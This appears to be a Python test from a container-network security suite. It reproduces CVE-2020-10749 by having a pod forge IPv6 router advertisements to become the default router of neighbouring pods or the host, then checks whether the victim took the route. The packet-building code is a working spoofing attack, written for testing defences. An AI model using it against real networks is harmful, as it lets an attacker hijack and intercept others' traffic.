#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""S5, CVE-2020-10749: a pod sends router advertisements, to become the default router of its neighbours or of the host."""
import pathlib
import struct
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from attacks import frames, links  # noqa: E402

PREFIX = "2001:db8:bad::"
RA_TYPE, PREFIX_OPTION, ON_LINK_AND_AUTONOMOUS = 134, 3, 0xC0


def advertisement(source):
    """Announces a default router and a prefix from which a host makes an address."""
    prefix = struct.pack("!BBBBIII", PREFIX_OPTION, 4, 64, ON_LINK_AND_AUTONOMOUS, 3600, 1800, 0) + frames.ip(PREFIX)
    body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + prefix
    return frames.ipv6(source, frames.ALL_NODES, frames.ICMPV6, frames.icmpv6(source, frames.ALL_NODES, RA_TYPE, body), hops=255)


def took(namespace):
    """Returns whether a namespace has taken over the route or an address."""
    routes = namespace.run("ip", "-6", "route", "show", "proto", "ra").stdout
    return "default" in routes or PREFIX in namespace.run("ip", "-6", "-o", "address").stdout


def send(scene):
    pod = scene.attacker
    pod.send(frames.ALL_NODES_MAC, frames.IPV6, advertisement(frames.link_local(pod.mac)))
    scene.drain()


@links.both_ways
class NeighbourTest(links.AttackTest):
    wirings = links.BRIDGED

    def attack(self, scene):
        send(scene)
        return took(scene.victim.namespace)


@links.both_ways
class HostTest(links.AttackTest):
    """P3: a host that listens to routers on this link, although it forwards."""
    def prepare(self, scene):
        scene.host.run("sysctl", "-qw", f"net.ipv6.conf.{scene.entrance}.accept_ra=2")

    def attack(self, scene):
        send(scene)
        return took(scene.host)


if __name__ == "__main__":
    links.main()
